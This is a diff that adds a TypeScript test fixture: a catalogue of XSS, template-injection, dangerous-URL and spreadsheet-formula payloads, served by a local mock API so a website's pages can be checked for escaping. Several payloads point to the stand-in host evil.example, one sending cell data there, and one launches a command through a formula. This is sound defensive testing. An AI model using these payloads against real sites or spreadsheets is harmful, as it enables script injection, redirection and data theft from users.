@@ -1,0 +1,87 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+
+/** Texts that do harm wherever they are taken for more than text. What runs would set `hacked` on the window. */
+export const PAYLOADS: Readonly<Record<string, string>> = {
+  script: '<script>window.hacked = "script"</script>',
+  handler: '<img src=x onerror="window.hacked = \'handler\'">',
+  svg: '<svg onload="window.hacked = \'svg\'"><script>window.hacked = "svg script"</script></svg>',
+  'end of attribute':
+    '"><script>window.hacked = "attribute"</script><a autofocus onfocus="window.hacked = 1" b="',
+  'single quote': "' onmouseover='window.hacked = 1' autofocus onfocus='window.hacked = 1",
+  'end of script': '</script><script>window.hacked = "end of script"</script>',
+  'end of everything':
+    '</title></style></textarea></template></noscript>--><script>window.hacked = 1</script>',
+  'open comment': '<!--<script>',
+  'XML section': ']]><script>window.hacked = "cdata"</script><![CDATA[',
+  address: '<a href="javascript:window.hacked=1">javascript:window.hacked = 1</a>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must not be filled in, which is what is tested
+  template: '{{constructor.constructor("window.hacked = 1")()}} ${window.hacked = 1} #{7*7} <%= 7*7 %>',
+  takeover: '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example/">',
+  frame:
+    '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe><form action="//evil.example"><button>',
+  style: '<style>*{display:none}</style><link rel="stylesheet" href="//evil.example/a.css">',
+  formula: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  command: "@SUM(1+1)*cmd|'/c calc'!A0",
+};
+
+/** Addresses that must never become a picture's, a link's or a script's. */
+const ADDRESSES = [
+  'javascript:window.hacked=1',
+  ' java\tscript:window.hacked=1',
+  'data:text/html,<script>parent.hacked=1</script>',
+  'vbscript:msgbox(1)',
+  '/x.png" onerror="window.hacked=1',
+  '/x.png, javascript:window.hacked=1 2x',
+  'http://user:password@127.0.0.1:1/x.png',
+  'blob:null/1',
+  null,
+];
+
+/** Every public list, each payload in each text field and each address in each picture field of its items. */
+export function hostileLists(): Record<string, readonly object[]> {
+  const items = Object.entries(PAYLOADS).map(([name, text], index) => {
+    const id = index + 1;
+    const image = ADDRESSES[index % ADDRESSES.length];
+    return { id, image, text: `${name}: ${text}` };
+  });
+  const backgrounds = Object.fromEntries(
+    ['home', 'ourmodel', 'activities', 'gallery', 'supportus', 'about', 'contact'].map((section, index) => [
+      `${section}_bg`,
+      [{ id: 1, bg: ADDRESSES[index] }],
+    ]),
+  );
+  return {
+    ...backgrounds,
+    news: items.map(({ id, image, text }) => ({
+      id,
+      image,
+      news_name: text,
+      date: id % 2 === 0 ? text : '2026-11-10',
+      description: `${text}\n\n${text}`,
+    })),
+    gukulam_activities: items.map(({ id, image, text }) => ({ id, image, title: text, des: text })),
+    'adrishya/activities': items.map(({ id, text }) => ({ id, image: ADDRESSES, title: text, des: text })),
+    'gallery/gurukulam': items.map(({ id, image, text }) => ({ id, images: image, date: text })),
+    'gallery/adrishya': items.map(({ id, text }) => ({ id, image: `/media/none.png?${text}`, date: text })),
+    team: items.map(({ id, image, text }) => ({ id, image, name: text, designation: text, des: text })),
+    'steeringboard-team': items.map(({ id, image, text }) => ({ id, image, name: text })),
+  };
+}
+
+/** An API of which every text is hostile. */
+export async function startHostileApi(): Promise<{ origin: string; stop: () => Promise<void> }> {
+  const lists = hostileLists();
+  const server = createServer((request, response) => {
+    const list = lists[(request.url ?? '').replace(/^\/api\/|\/$/g, '')];
+    response.writeHead(list === undefined ? 404 : 200, { 'Content-Type': 'application/json' });
+    response.end(JSON.stringify(list ?? { detail: 'Not found.' }));
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  // A server that listens on a host has an address of this shape.
+  const { port } = server.address() as AddressInfo;
+  return {
+    origin: `http://127.0.0.1:${port}`,
+    stop: () => new Promise((resolve) => server.close(() => resolve())),
+  };
+}
